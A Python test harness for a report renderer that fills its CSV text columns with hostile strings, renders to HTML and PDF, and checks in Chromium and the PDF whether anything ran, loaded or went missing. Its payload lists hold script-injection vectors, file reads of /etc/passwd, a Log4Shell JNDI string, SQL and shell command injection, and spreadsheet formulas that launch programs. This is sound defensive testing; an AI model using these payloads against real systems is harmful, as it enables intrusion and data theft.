"""Hostile texts in every text column of the tables, through a whole render, to a real browser and into the PDF.

`python tests/faults/hostile.py [RENDERS]` renders the invented harbour, and from two renders on the dossier, so many times
(1), each time with the texts in other cells, and tells how many cells went through, what ran, what was asked for, and what was not shown as it
stands. It needs Chromium; `tests/writers/test_hostile.py` asks the same of one render each.
"""

import csv
import json
import re
import sys
import tempfile
import urllib.parse
from pathlib import Path

TESTS = Path(__file__).parents[1]
HIT = "window.__hit=1"
#: Nothing but a text: each would run, load, read or lead somewhere, were it taken for what it looks like.
TEXTS = (
    # HTML
    f"<script>{HIT}</script>", f"<ScRiPt>{HIT}</sCrIpT>", f"</script><script>{HIT}</script>", f"<img src=x onerror={HIT}>",
    f"<svg onload={HIT}>", f"<svg><script>{HIT}</script></svg>", f"<body onload={HIT}>", f"<details open ontoggle={HIT}>x</details>",
    f"<input autofocus onfocus={HIT}>", f"<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "<iframe src=http://hostile.invalid/></iframe>", "<img src=http://hostile.invalid/a.png>", "<link rel=stylesheet href=http://hostile.invalid/a.css>",
    "<style>@import 'http://hostile.invalid/b.css'</style>", "<base href=http://hostile.invalid/>", "<meta http-equiv=refresh content=0;url=http://hostile.invalid/>",
    f"<a href=javascript:{HIT}>go</a>", "<form action=http://hostile.invalid/><button>b</button></form>", f"<math><mtext><style><img src=x onerror={HIT}></style></mtext></math>",
    f"\" onmouseover=\"{HIT}", f"' autofocus onfocus='{HIT}", f"--><script>{HIT}</script><!--", f"]]><script>{HIT}</script>", "</title></style></textarea>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "<?xml version='1.0'?>", "&lt;b&gt; &amp;amp; &#60;i&#62;", "<b>bold</b> <i>it</i> <sup>2</sup>",
    "a < b & c > d", "<3",
    # Markdown and Pandoc
    f"[go](javascript:{HIT})", "[go](data:text/html;base64,PHNjcmlwdD4=)", "[go](file:///etc/passwd)", "[go](vbscript:x)", "![pic](http://hostile.invalid/c.png)",
    "![pic](../../../etc/passwd)", "<http://hostile.invalid/>", f"`<script>{HIT}</script>`{{=html}}", "`#read(\"/etc/passwd\")`{=typst}", f"[x]{{onclick=\"{HIT}\"}}",
    "::: {.callout-note}", "```{=html}", "~~~", "*star* **two** _line_ __two__", "# head", "- item", "1. first", "> said", "| a | b |", "---", "x^2^ H~2~O ~~gone~~",
    "@nobody [@nobody] -@nobody", "[^1] ^[note]", "[a]: http://hostile.invalid", "\\alpha \\input{/etc/passwd}", "$x^2$ and $$y$$", "Term\\", "(@) example",
    # Quarto, Typst, Lua
    "{{< include /etc/passwd >}}", "{{< meta title >}}", "{{< video http://hostile.invalid/v >}}", "#read(\"/etc/passwd\")", "#import \"/etc/passwd\": *", "#eval(\"1\")", "#link(\"javascript:x\")[y]",
    "#{ while true {} }", "\"); #read(\"/etc/passwd\"); #(\"", "<label> @label", "os.execute('touch /tmp/hostile')", "$title ${title} $$",
    # Vega
    "datum.secret", "{\"signal\": \"width\"}", "'+datum+'", "\\'];warn(1);['", "format(1,'') || event.view.alert(1)", "{\"expr\":\"1\"}", "a.b[c]",
    # paths, programs, words
    "../../../../etc/passwd", "C:\\Windows\\win.ini", "%2e%2e%2f", "${jndi:ldap://hostile.invalid/a}", "'; DROP TABLE statements; --", "{0.__class__}", "%s%n%x", "`id` $(id)",
    "W" * 90, "__proto__", "constructor")
#: What a spreadsheet would run: a finding, since tables are published byte for byte.
FORMULAS = ("=1+1", "=HYPERLINK(\"http://hostile.invalid\",\"x\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "=WEBSERVICE(\"http://hostile.invalid\")", "+SUM(1)")
#: What nobody sees, or what turns the words around it.
HIDDEN = ("\u202e", "\u202a", "\u2066", "\u2069", "\u200b", "\u2060", "\ufeff", "\u00ad", "\U000e0041", "\x1b[31m", "\x07", "\x7f", "\x9b", "\u2028", "\u180e", "\u3164", "\ufff9",
          "\u200f", "\u200d", "\ue03c", "\u034f")
#: Text columns that anybody may write anything into.
FREE = {"sources": ("publisher", "title", "descriptor"), "passages": ("speaker", "chain", "quote", "gist"),
        "actors": ("label", "who"), "concepts": ("label", "sentence"), "statements": ("act",),
        "quantities": ("measure", "of", "unit", "holder", "counterpart"), "events": ("title",),
        "judgements": ("text", "basis", "contrary", "alternative", "weighed", "would_change_it", "so_what", "changed")}
#: Those that both files show in full, for each row.
SHOWN = {("passages", "gist"), ("sources", "descriptor"), ("judgements", "basis")}


def fill(root, turn=0):
    """Put a hostile text into every cell of FREE that has one; what was put where, as (table, column, text)."""
    placed = []
    for table, columns in FREE.items():
        path = root / f"data/{table}.csv"
        with open(path, newline="", encoding="utf-8") as file:
            rows = list(csv.DictReader(file))
        for row in rows:
            for column in columns:
                if not row.get(column):
                    continue
                text = TEXTS[(len(placed) * 7 + turn * 13) % len(TEXTS)]  # 7 and 13 have no part in common with their number
                if column == "chain":
                    text = text.replace(">", "}")  # which parts hands
                if column == "quote":
                    row[column] = " ".join(text.split()[:12])
                else:  # at the end of a cell, and at its begin
                    row[column] = f"{row[column].rstrip('.')} {text}" if (len(placed) + turn) % 2 else f"{text} {row[column]}"
                placed.append((table, column, text))
        with open(path, "w", newline="", encoding="utf-8") as file:
            table_of = csv.DictWriter(file, rows[0].keys() if rows else columns, lineterminator="\n")
            table_of.writeheader()
            table_of.writerows(rows)
    return placed


def squeezed(text):
    """A text without what setting it changes: spaces, breaks of long words, the form of quotation marks and dashes."""
    return re.sub(r"[\s\u00ad\u200b]", "", text).translate(str.maketrans("‘’“”\"–—…", "'''''--.")).replace("...", ".").replace("--", "-")


def of_page(browser, show, page):
    """What a browser did with a page: what ran, which requests it made, and what was logged; every citation and table opened."""
    show(page)
    browser.execute_script("""document.querySelectorAll('details').forEach((d) => { d.open = true; });
        document.querySelectorAll('a[href^="#ref-"]').forEach((a) => a.click());
        document.querySelectorAll('.take button').forEach(() => 0);
        document.querySelectorAll('[onclick],[onerror],[onload],[onmouseover]').forEach(() => { window.__hit = 'attribute'; });
        document.querySelectorAll('a[href]').forEach((a) => { if (!/^(https?:|mailto:|#|data:text\\/csv)/.test(a.getAttribute('href'))) window.__hit = a.href; });""")
    hit = browser.execute_script("return window.__hit || (document.querySelector('main iframe, main form[action], main base, main script, main object, main embed, main img[src^=http]') || {}).outerHTML || null")
    requests = []
    for entry in browser.get_log("performance"):
        message = json.loads(entry["message"])["message"]
        if message["method"] == "Network.requestWillBeSent":
            requests.append(message["params"]["request"]["url"])
    return hit, [url for url in requests if not url.startswith(("data:", "blob:", page.as_uri(), "about:"))], browser.get_log("browser")


def of_pdf(path):
    """What of a PDF would run or lead elsewhere than to the web, and its text."""
    import pypdf

    found, reader, seen = [], pypdf.PdfReader(path), set()

    def look(value):
        value = value.get_object() if hasattr(value, "get_object") else value
        if id(value) in seen:
            return
        seen.add(id(value))
        if isinstance(value, dict):
            kind = value.get("/S")
            if kind in ("/JavaScript", "/Launch", "/GoToR", "/GoToE", "/SubmitForm", "/ImportData", "/Rendition") or "/JS" in value or "/AA" in value:
                found.append(str(dict(value))[:200])
            if kind == "/URI" and urllib.parse.urlsplit(str(value["/URI"])).scheme not in ("http", "https", "mailto"):
                found.append(str(value["/URI"]))
            for inner in value.values():
                waiting.append(inner)
        elif isinstance(value, list):
            waiting.extend(value)

    waiting = [reader.trailer]
    while waiting:
        look(waiting.pop())
    return found, "".join(page.extract_text() for page in reader.pages)


def unshown(root, placed, text):
    """The texts of SHOWN that a file does not show as they stand."""
    there = squeezed(text)
    columns = SHOWN if root.name == "dossier" else SHOWN - {("judgements", "basis")}  # the harbour has one in short
    return [(table, column, words) for table, column, words in placed
            if (table, column) in columns and len(words) < 60 and squeezed(words) not in there]


def main(renders=1):
    """Render harbour and dossier so many times with hostile texts, and tell what came of it."""
    sys.path.insert(0, str(TESTS))
    import shutil

    import conftest
    from briefing.findings import BriefingError
    from briefing.rendering.render import render
    from selenium import webdriver

    options = webdriver.ChromeOptions()
    options.binary_location = shutil.which("chromium")
    for flag in conftest.CHROMIUM:
        options.add_argument(flag)
    options.set_capability("goog:loggingPrefs", {"performance": "ALL", "browser": "ALL"})
    cells = ran = asked = lost = failed = 0
    with webdriver.Chrome(options=options, service=webdriver.ChromeService(shutil.which("chromedriver"))) as browser:
        def show(page):
            browser.get("about:blank")
            browser.get_log("performance"), browser.get_log("browser")
            browser.get(page.as_uri())

        for turn in range(renders):
            for name in ("harbour", "dossier") if renders > 1 else ("harbour",):
                with tempfile.TemporaryDirectory(prefix="hostile15-") as folder:
                    root = Path(folder, name)
                    if name == "harbour":
                        shutil.copytree(conftest.HARBOUR, root)
                    else:
                        conftest.begin(root, conftest.DOSSIER)
                    placed = fill(root, turn)
                    try:
                        render(root)
                    except BriefingError as error:
                        failed += 1
                        print(f"{name} {turn}: {error}"[:600])
                        continue
                    page = root / "_output/report.html"
                    bare = root / "bare.html"  # the same without its policy: nothing may hang on that alone
                    bare.write_text(re.sub(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>", "", page.read_text("utf-8")), "utf-8")
                    outcomes = [of_page(browser, show, each) for each in (page, bare)]
                    actions, text = of_pdf(root / "_output/report.pdf")
                    show(page)
                    shown = browser.execute_script("return document.body.textContent")
                    missing = unshown(root, placed, shown) + unshown(root, placed, text)
                    cells, lost = cells + len(placed), lost + len(missing)
                    ran += sum(hit is not None for hit, _, _ in outcomes) + len(actions)
                    asked += sum(len(requests) for _, requests, _ in outcomes)
                    print(f"{name} {turn}: {len(placed)} cells", *[hit for hit, _, _ in outcomes if hit], *actions, *missing[:5])
    print(f"{cells} hostile cells: {ran} ran, {asked} requests, {lost} not shown as they stand, {failed} renders refused.")
    return 1 if ran or asked or lost or failed else 0


if __name__ == "__main__":
    sys.exit(main(*map(int, sys.argv[1:])))
